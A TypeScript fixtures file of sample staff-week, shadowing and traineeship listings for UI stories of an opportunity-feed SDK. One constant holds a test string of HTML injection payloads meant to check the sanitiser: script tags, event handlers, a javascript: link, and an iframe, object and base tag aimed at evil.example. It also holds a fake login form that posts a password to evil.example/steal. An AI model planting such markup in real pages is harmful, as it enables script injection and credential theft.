/**
 * Opportunities for the stories. Every story computes statuses at NOW (the `now` attribute / property), so a story looks
 * the same on any day. The hand-written items below each show one state; the demo feed (demo-feed.ts) is the realistic
 * sample for the finder, the detail with a form and the application form.
 */
import { parseFeed } from '../../src/sdk/index.js';
import type { FeedInput, Opportunity, OpportunityInput } from '../../src/sdk/index.js';

/** The moment every story is computed for (the demo feed was generated for this day). */
export const NOW = '2026-11-23T12:00:00Z';
export const NOW_DATE = new Date(NOW);

/** The description a hostile or careless feed might send: the sanitiser must keep the prose and drop the rest. */
export const HOSTILE_DESCRIPTION =
  '<p class="x" style="color:red" id="p1" onclick="window.__oppPwned = true">Programme: <strong>open science</strong>, <em>learning centres</em>.</p>' +
  '<script>window.__oppPwned = true</script>' +
  '<img src="x" onerror="window.__oppPwned = true">' +
  '<svg><script>window.__oppPwned = true</script></svg>' +
  '<p><a href="javascript:window.__oppPwned = true">bad link</a> <a href="https://www.ugent.be/programme">programme</a> ' +
  '<a href="mailto:staffweek@ugent.be">mail us</a> <a href="/relative">relative</a></p>' +
  '<form action="https://evil.example/steal"><input name="password" aria-label="Password"><button>Log in</button></form>' +
  '<h3>Day one</h3><ul><li>Welcome</li><li>Tour</li></ul>' +
  '<table><caption>Timetable</caption><tr><th scope="row">Monday</th><td>Welcome and tour</td></tr></table>' +
  '<iframe src="https://evil.example" title="evil"></iframe><style>p{display:none}</style>' +
  '<object data="https://evil.example/x.swf"></object><base href="https://evil.example/">';

const RICH_DESCRIPTION =
  '<p>Ghent University Library invites <strong>library staff from partner institutions</strong> to a week on open science ' +
  'services and learning centres.</p>' +
  '<h3>Programme</h3><ul><li>Monday: welcome and tour of the Boekentoren</li><li>Tuesday–Wednesday: workshops</li>' +
  '<li>Thursday: job shadowing in a team of your choice</li><li>Friday: round-up and certificates</li></ul>' +
  '<table><caption>Costs</caption><thead><tr><th scope="col">Item</th><th scope="col">Covered</th></tr></thead>' +
  '<tbody><tr><td>Lunches</td><td>Yes</td></tr><tr><td>Accommodation</td><td>No</td></tr></tbody></table>' +
  '<blockquote>“The best week of my year.” — a participant in 2026</blockquote>' +
  '<p>Read the <a href="https://www.ugent.be/staffweek/library/programme">full programme</a>.</p>';

const ugent: OpportunityInput['provider'] = { name: 'Ghent University', country: 'BE', city: 'Gent', type: 'hei', url: 'https://www.ugent.be' };

export const items = {
  open: {
    id: 'ugent-library-week-2027',
    kind: 'staff-week',
    title: { en: 'International Library Staff Week', nl: 'Internationale bibliotheekweek' },
    summary: { en: 'Five days on open science services and learning centres.', nl: 'Vijf dagen over open science en leercentra.' },
    description: RICH_DESCRIPTION,
    url: 'https://www.ugent.be/staffweek/library',
    provider: ugent,
    location: { city: 'Gent', country: 'BE' },
    mode: 'onsite',
    start: '2027-05-10',
    end: '2027-05-14',
    application: {
      opens: '2026-10-01',
      deadline: '2027-02-28T23:59:00+01:00',
      url: 'https://www.ugent.be/staffweek/library/apply',
      email: 'staffweek@ugent.be',
      places: 25,
      placesLeft: 9,
    },
    audience: ['library-staff', 'administrative-staff'],
    topics: ['libraries', 'open-science'],
    fields: ['0322'],
    languages: [{ lang: 'en', level: 'B2' }],
    fee: { amount: 150, currency: 'EUR', covers: 'Lunches and the social programme' },
    learningOutcomes: ['Plan open science services for your library', 'Compare learning-centre models across Europe'],
    recognition: { ects: 2, note: 'Certificate of attendance' },
    feedback: { rating: 4.6, count: 38 },
    contact: { name: 'Staff week team', email: 'staffweek@ugent.be', phone: '+32 9 264 00 00', url: 'https://www.ugent.be/contact' },
    updated: '2026-11-18T09:00:00Z',
  },
  closingSoon: {
    id: 'helsinki-ir-week-2027',
    kind: 'staff-week',
    title: 'International Relations Staff Week',
    summary: 'Mobility workflows, Erasmus Without Paper and inclusion support, with the Helsinki international office.',
    url: 'https://www.helsinki.fi/en/staff-week',
    provider: { name: 'University of Helsinki', country: 'FI', city: 'Helsinki', type: 'hei' },
    start: '2027-03-15',
    end: '2027-03-19',
    application: { deadline: '2026-11-28', email: 'ir-week@helsinki.fi' },
    topics: ['international-relations'],
    audience: ['administrative-staff'],
    languages: [{ lang: 'en', level: 'B1' }],
    fee: { amount: 0, currency: 'EUR' },
  },
  closed: {
    id: 'lund-io-shadowing-2027',
    kind: 'job-shadowing',
    title: 'Job shadowing in the international office',
    provider: { name: 'Lund University', country: 'SE', city: 'Lund', type: 'hei' },
    url: 'https://www.lu.se/shadowing',
    start: '2027-01-11',
    end: '2027-01-15',
    application: { deadline: '2026-11-10', url: 'https://www.lu.se/shadowing/apply' },
    topics: ['international-relations'],
  },
  upcoming: {
    id: 'tampere-hr-week-2027',
    kind: 'staff-week',
    title: 'Human Resources Staff Week',
    summary: 'Recruitment, onboarding and well-being at work in Finnish universities.',
    url: 'https://www.tuni.fi/hr-week',
    provider: { name: 'Tampere University', country: 'FI', city: 'Tampere', type: 'hei' },
    start: '2027-06-07',
    end: '2027-06-11',
    application: { opens: '2027-01-10', deadline: '2027-03-15', url: 'https://www.tuni.fi/hr-week/apply', email: 'hr-week@tuni.fi' },
    topics: ['human-resources'],
  },
  past: {
    id: 'salamanca-staff-week-2026',
    kind: 'staff-week',
    title: 'Erasmus Staff Week 2026',
    provider: { name: 'Universidad de Salamanca', country: 'ES', city: 'Salamanca', type: 'hei' },
    url: 'https://www.usal.es/staff-week',
    start: '2026-05-04',
    end: '2026-05-08',
    topics: ['international-relations'],
  },
  cancelled: {
    id: 'bologna-staff-week-2027',
    kind: 'staff-week',
    title: 'Staff Week on Student Services',
    provider: { name: 'Università di Bologna', country: 'IT', city: 'Bologna', type: 'hei' },
    url: 'https://www.unibo.it/staff-week',
    start: '2027-05-03',
    end: '2027-05-07',
    status: 'cancelled',
    application: { deadline: '2027-02-01', url: 'https://www.unibo.it/staff-week/apply' },
    topics: ['student-services'],
  },
  request: {
    id: 'krakow-host-library-request',
    kind: 'job-shadowing',
    direction: 'request',
    title: 'Looking for a host library for one week of job shadowing',
    summary: 'A subject librarian (Polish, English C1) would like to shadow a team working on research data services.',
    provider: { name: 'Jagiellonian University', country: 'PL', city: 'Kraków', type: 'hei' },
    topics: ['libraries'],
    languages: [{ lang: 'en', level: 'C1' }, { lang: 'pl' }],
  },
  multilingual: {
    id: 'umea-traineeship-2027',
    kind: 'traineeship',
    language: 'sv',
    title: { sv: 'Praktik inom vård och omsorg', fi: 'Harjoittelu sosiaali- ja terveysalalla' },
    summary: { sv: 'Åtta veckor på ett äldreboende i Umeå, med handledare.', fi: 'Kahdeksan viikkoa vanhainkodissa Uumajassa.' },
    provider: { name: { sv: 'Umeå kommun', en: 'Umeå Municipality' }, country: 'SE', city: 'Umeå', type: 'public-authority' },
    start: '2027-04-05',
    end: '2027-05-28',
    application: { deadline: '2027-02-15', url: 'https://www.umea.se/praktik' },
    topics: ['health-and-care'],
    languages: [{ lang: 'sv', level: 'B1' }],
  },
  minimal: {
    id: 'minimal-item',
    kind: 'other',
    title: 'Open day for partner schools',
    provider: { name: 'Escola Secundária de Aveiro' },
  },
  long: {
    id: 'long-texts',
    kind: 'course',
    title:
      'Internationalisation-at-home-and-virtual-exchange-in-vocational-education: a Donaudampfschifffahrtsgesellschaftskapitän’s guide to blended intensive programmes',
    summary:
      'A very long summary that goes on and on about blended intensive programmes, collaborative online international learning, ' +
      'automatic recognition of learning outcomes, green travel top-ups, inclusion support, and everything in between, so that the ' +
      'card has to clamp it to three lines without breaking the layout at 320 CSS pixels.',
    provider: {
      name: 'Hochschule für angewandte Wissenschaften und Kunst Hildesheim/Holzminden/Göttingen — Fakultät Soziale Arbeit und Gesundheit',
      country: 'DE',
      city: 'Hildesheim',
      type: 'hei',
    },
    location: { city: 'Sankt Andreasberg im Oberharz am Brocken', region: 'Niedersachsen', country: 'DE' },
    mode: 'blended',
    start: '2027-02-22',
    end: '2027-03-26',
    application: { deadline: '2026-12-31T23:59:00+01:00', url: 'https://www.hawk.de/en/bip-internationalisation-at-home' },
    languages: [{ lang: 'de', level: 'B2' }, { lang: 'en', level: 'B2' }, { lang: 'nl', level: 'A2' }, { lang: 'fr', level: 'A2' }],
    fee: { amount: 1234.5, currency: 'EUR' },
    topics: ['internationalisation-at-home'],
  },
  linkOnly: {
    id: 'lyon-digital-teaching-2027',
    kind: 'course',
    title: 'Digital teaching: a four-week online course',
    summary: 'Design activities for hybrid classrooms, with weekly live sessions in French.',
    provider: { name: 'Université de Lyon', country: 'FR', city: 'Lyon', type: 'hei', url: 'https://www.universite-lyon.fr' },
    mode: 'online',
    start: '2027-03-01',
    end: '2027-03-26',
    application: { deadline: '2027-02-10', url: 'https://www.universite-lyon.fr/digital-teaching/apply' },
    topics: ['digital-education'],
    languages: [{ lang: 'fr', level: 'B1' }],
    fee: { amount: 0, currency: 'EUR' },
  },
  emailOnly: {
    id: 'aveiro-vet-placement-2027',
    kind: 'vet-placement',
    title: 'Placement in a hotel kitchen for VET learners',
    summary: 'Four weeks in a partner hotel for cookery learners, with accommodation arranged by the school.',
    provider: { name: 'Escola Profissional de Aveiro', country: 'PT', city: 'Aveiro', type: 'vet' },
    start: '2027-04-12',
    end: '2027-05-07',
    application: { deadline: '2027-01-31', email: 'erasmus@epa.example.pt' },
    audience: ['vet-learners'],
    topics: ['hospitality'],
    languages: [{ lang: 'en', level: 'A2' }, { lang: 'pt' }],
  },
} satisfies Record<string, OpportunityInput>;

/** Parse items like a real feed (defaults filled in, texts normalised); throws if one is invalid. */
export function parse(list: OpportunityInput[], language = 'en'): Opportunity[] {
  const r = parseFeed({ version: '1', language, opportunities: list } as FeedInput);
  if (r.opportunities.length !== list.length) {
    throw new Error(`stories/support/fixtures: invalid opportunity: ${JSON.stringify(r.issues.slice(0, 5))}`);
  }
  return r.opportunities;
}

export const opportunity = (item: OpportunityInput): Opportunity => parse([item])[0]!;

/** A feed document (what a server sends) of `list`. */
export function feedOf(list: OpportunityInput[], extra: Partial<FeedInput> = {}): FeedInput {
  return {
    version: '1',
    title: { en: 'Staff weeks of the Example network' },
    language: 'en',
    publisher: { name: 'Example network', url: 'https://network.example.eu/' },
    opportunities: list,
    ...extra,
  } as FeedInput;
}

/** The hand-written items as one small feed (every status, a request, a course…). */
export const smallFeed = feedOf(Object.values(items) as OpportunityInput[]);
